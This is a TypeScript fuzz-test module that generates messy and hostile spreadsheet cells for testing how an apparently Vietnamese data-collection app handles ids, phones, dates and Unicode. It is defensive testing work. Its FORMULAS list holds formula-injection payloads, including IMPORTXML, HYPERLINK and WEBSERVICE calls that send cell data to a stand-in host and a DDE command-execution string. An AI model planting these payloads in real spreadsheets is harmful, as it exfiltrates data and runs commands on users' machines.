// fast-check arbitraries for hostile spreadsheet input: what units really paste (ids without their leading
// zero, phones with dots, NFD Vietnamese from Word on a Mac) and what an attacker types (formulas, RTL
// overrides, 50,000-character cells). Shared by the fuzz, privacy and load tests.
import fc from "fast-check";
import { inputColumns } from "../../functions/src/core/columns.ts";
import type { Campaign, CellValue } from "../../schemas/index.ts";

/** Province codes of Circular 07/2016 that exist (a valid id must start with one). */
const PROVINCES = ["001", "002", "004", "006", "008", "022", "024", "031", "036", "079", "092", "096"];
const MOBILE = ["032", "038", "052", "070", "077", "081", "086", "090", "091", "098"];

export const FORMULAS: readonly string[] = [
  '=IMPORTXML("http://evil.example/x","//a")',
  '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
  "=1+1",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "=cmd|' /C calc'!A0",
  ' =IMPORTDATA("http://evil.example")',
  "+84 912 ABC",
  '=WEBSERVICE("http://evil.example")',
];

export const INVISIBLE: readonly string[] = ["\u200B", "\uFEFF", "\u202E", "\u200D", "\u00A0", "\u2060"];
export const EMOJI: readonly string[] = ["👍🏽", "🇻🇳", "👨‍👩‍👧", "✔", "🙂"];

const VI_WORDS = [
  "Nguyễn Thị Hằng",
  "Lương Minh Quỳnh",
  "Tổ dân phố Phố Chợ",
  "Thôn Khuổi Cuồng",
  "Đặng Ngọc Ánh",
  "Hỗ trợ tại nhà văn hóa thôn",
  "Phường Đống Mác",
  "Trần Thuỵ Khuê",
];

const digits = (n: number) =>
  fc.string({ unit: fc.constantFrom(..."0123456789"), minLength: n, maxLength: n });

/** A structurally valid 12-digit citizen id (province, century digit 0–3, birth year before 2011). */
export const citizenIdArb: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom(...PROVINCES),
    fc.constantFrom("0", "1", "2", "3"),
    fc.integer({ min: 0, max: 99 }),
    digits(6),
  )
  .map(([p, g, yy, rest]) => {
    // 2000s births (g 2/3) must be at least 14 in 2025: cap the year at 2010.
    const year = g === "2" || g === "3" ? yy % 11 : Math.max(yy, 30);
    return `${p}${g}${String(year).padStart(2, "0")}${rest}`;
  });

export const phoneArb: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(...MOBILE), digits(7))
  .map(([p, rest]) => `${p}${rest}`);

/** Ways people (and spreadsheets) mangle an id or a phone without changing its digits. */
export function disguisedDigits(base: string): fc.Arbitrary<CellValue> {
  return fc.oneof(
    fc.constant(base),
    fc.constant(Number(base)), // leading zero lost
    fc.constant(`${base.slice(0, 3)} ${base.slice(3, 6)} ${base.slice(6)}`),
    fc.constant(`${base.slice(0, 4)}.${base.slice(4, 7)}.${base.slice(7)}`),
    fc.constant(`'${base}`),
    fc.constant(` ${base}  `),
    fc.constantFrom(...INVISIBLE).map((z) => `${base.slice(0, 4)}${z}${base.slice(4)}`),
    fc.constantFrom(...INVISIBLE).map((z) => `${z}${base}${z}`),
    fc.constant(`${base.slice(0, 4)}/${base.slice(4, 7)}/${base.slice(7)}`),
    fc.constant(`+84${base.slice(1)}`),
  );
}

/** Anything hostile, whatever the column. */
export const hostileCellArb: fc.Arbitrary<CellValue> = fc.oneof(
  fc.constantFrom(...FORMULAS),
  fc.constantFrom<CellValue>(
    1e308,
    -1e308,
    Number.NaN,
    Number.POSITIVE_INFINITY,
    Number.NEGATIVE_INFINITY,
    -0,
  ),
  fc.constantFrom<CellValue>(-5, 2.5, 0.1, -0.0001, 1e-300, Number.MAX_SAFE_INTEGER + 2, 0, 1),
  fc.constantFrom<CellValue>(
    "31/02/2025",
    "29/02/2025",
    "00/08/2025",
    "32/07/2025",
    "01/13/2025",
    "01/01/1899",
    "31/12/1899",
    "01/01/2100",
    "31/12/2100",
    "2025-02-30",
    "2025-08-04T25:61:00",
    "1899-12-31",
    "2100-01-01",
    -1,
    0.5,
    2958466, // serial past 9999-12-31
  ),
  fc.constantFrom<CellValue>(
    "x".repeat(50_000),
    "Ư".repeat(50_000),
    `${"9".repeat(25_000)}a${"1".repeat(24_999)}`,
  ),
  fc.constantFrom(...EMOJI),
  fc.constantFrom(...INVISIBLE).map((z) => `${z}Có${z}`),
  fc.constantFrom(...INVISIBLE),
  fc.constantFrom(...VI_WORDS).map((w) => w.normalize("NFD")),
  fc.constantFrom(...VI_WORDS).map((w) => `  ${w}\t \n`),
  fc.boolean(),
  fc.constant(null),
  fc.constant(""),
  fc.constant("   "),
  citizenIdArb.chain(disguisedDigits),
  phoneArb.chain(disguisedDigits),
  fc.string({ maxLength: 30 }),
  fc.string({ unit: "grapheme", maxLength: 20 }),
);

const MS_PER_DAY = 86_400_000;
const serialOf = (iso: string) => Date.parse(`${iso}T00:00:00Z`) / MS_PER_DAY + 25_569;

/** A day of the campaign written the ways units write it: dd/mm/yyyy, d/m/yyyy, ISO, or a serial. */
function campaignDateArb(campaign: Campaign): fc.Arbitrary<CellValue> {
  const first = serialOf(campaign.start);
  const last = serialOf(campaign.end);
  return fc.tuple(fc.integer({ min: first, max: last }), fc.nat({ max: 3 })).map(([serial, style]) => {
    const d = new Date((serial - 25_569) * MS_PER_DAY);
    const [y, m, day] = [d.getUTCFullYear(), d.getUTCMonth() + 1, d.getUTCDate()];
    const pad = (n: number) => String(n).padStart(2, "0");
    if (style === 0) return `${pad(day)}/${pad(m)}/${y}`;
    if (style === 1) return `${day}/${m}/${y}`;
    if (style === 2) return `${y}-${pad(m)}-${pad(day)}`;
    return serial;
  });
}

function validCell(
  campaign: Campaign,
  type: string,
  options: readonly string[] | undefined,
): fc.Arbitrary<CellValue> {
  switch (type) {
    case "stamp": {
      const first = serialOf(campaign.start);
      const last = serialOf(campaign.end);
      return fc.oneof(fc.constant(null), fc.double({ min: first, max: last + 0.99, noNaN: true }));
    }
    case "date":
      return campaignDateArb(campaign);
    case "text":
      return fc.oneof(
        fc.constantFrom(...VI_WORDS),
        fc.constantFrom(...VI_WORDS).map((w) => w.normalize("NFD")),
      );
    case "id":
      return citizenIdArb.chain(disguisedDigits);
    case "phone":
      return fc.oneof(fc.constant(null), phoneArb.chain(disguisedDigits));
    case "bool":
      return fc.constantFrom<CellValue>("Có", "có", "x", "✓", true, 1, null, "Không", "CÓ".normalize("NFD"));
    case "count":
      return fc.oneof(
        fc.nat({ max: 100_000 }),
        fc.nat({ max: 100_000 }).map((n) => n.toLocaleString("de-DE")),
      );
    case "choice":
      return fc.oneof(fc.constant(null), fc.constantFrom(...(options ?? [])));
    default:
      return fc.constant(null);
  }
}

/** One row for `campaign`, in the canonical column order; each cell valid or hostile. */
export function rowArb(campaign: Campaign, hostileShare = 0.12): fc.Arbitrary<CellValue[]> {
  const columns = inputColumns(campaign);
  const weight = Math.round(hostileShare * 100);
  return fc.tuple(
    ...columns.map((c) =>
      fc.oneof(
        { arbitrary: validCell(campaign, c.type, c.options), weight: 100 - weight },
        { arbitrary: hostileCellArb, weight },
      ),
    ),
  );
}

export interface FuzzSheet {
  header: CellValue[];
  rows: CellValue[][];
  /** Sheet column of each canonical input column (for oracles). */
  positions: number[];
}

/**
 * A whole sheet: canonical rows, then the header mangled (NFD, stray spaces, aliases), the columns shuffled,
 * and sometimes a column duplicated (the copy holds the same cells, so either one read gives the same row).
 */
export function sheetArb(
  campaign: Campaign,
  opts: { minRows: number; maxRows: number },
): fc.Arbitrary<FuzzSheet> {
  const columns = inputColumns(campaign);
  const n = columns.length;
  return fc
    .record({
      rows: fc.array(
        fc.oneof({ arbitrary: rowArb(campaign), weight: 9 }, { arbitrary: fc.constant([]), weight: 1 }),
        {
          minLength: opts.minRows,
          maxLength: opts.maxRows,
        },
      ),
      order: fc.shuffledSubarray(
        Array.from({ length: n }, (_, i) => i),
        { minLength: n, maxLength: n },
      ),
      shuffle: fc.boolean(),
      headerStyle: fc.array(fc.constantFrom("plain", "nfd", "spaces", "alias", "upper"), {
        minLength: n,
        maxLength: n,
      }),
      duplicate: fc.option(fc.nat({ max: n - 1 }), { nil: null }),
    })
    .map(({ rows, order, shuffle, headerStyle, duplicate }) => {
      const perm = shuffle ? order : Array.from({ length: n }, (_, i) => i);
      const label = (i: number): string => {
        const c = columns[i]!;
        switch (headerStyle[i]) {
          case "nfd":
            return c.label.normalize("NFD");
          case "spaces":
            return `  ${c.label} \u00A0`;
          case "alias":
            return c.aliases[0] ?? c.label;
          case "upper":
            return c.label.toUpperCase();
          default:
            return c.label;
        }
      };
      const sheetCols = perm.slice();
      if (duplicate !== null) sheetCols.push(perm[duplicate]!);
      const positions = Array.from({ length: n }, (_, i) => perm.indexOf(i));
      return {
        header: sheetCols.map(label),
        rows: rows.map((r) => (r.length === 0 ? [] : sheetCols.map((i) => r[i] ?? null))),
        positions,
      };
    });
}

/** Unit names a hostile leader (or a careless import) could put in units.csv. */
export const unitNameArb: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...FORMULAS),
  fc.constantFrom(...VI_WORDS),
  fc.constantFrom(...VI_WORDS).map((w) => w.normalize("NFD")),
  fc.tuple(fc.constantFrom(...INVISIBLE), fc.constantFrom(...VI_WORDS)).map(([z, w]) => `${z}${w}${z}`),
  fc
    .tuple(fc.constantFrom("=", "+", "-", "@", "\t=", " ="), fc.string({ minLength: 1, maxLength: 40 }))
    .map(([p, s]) => `${p}${s}`),
  fc.string({ unit: "grapheme", minLength: 1, maxLength: 40 }).filter((s) => s.trim() !== ""),
);

/** The digits of an id or phone as every form a scanner must recognise. */
export function piiForms(kind: "id" | "phone", canonical: string): string[] {
  if (kind === "id") return [canonical, canonical.replace(/^0+/, "")].filter((s) => s.length >= 10);
  return [canonical, canonical.slice(1), `84${canonical.slice(1)}`];
}

/** Characters people or attackers put between digits; removed before scanning text for ids and phones. */
const SCAN_NOISE = /[\s.\-+()'",/_\u00A0\u200B-\u200F\u202A-\u202E\u2060\uFEFF]/g;

/** Runs of 9+ digits in `text` once separators and invisible characters between digits are removed. */
export function digitRuns(text: string): string[] {
  return text.replace(SCAN_NOISE, "").match(/\d{9,}/g) ?? [];
}

/** Which of `forms` occur in `text` once separators and invisible characters are removed. */
export function findPii(text: string, forms: ReadonlySet<string>): string[] {
  const runs = digitRuns(text);
  const found = new Set<string>();
  for (const run of runs) for (const f of forms) if (run.includes(f)) found.add(f);
  return [...found];
}
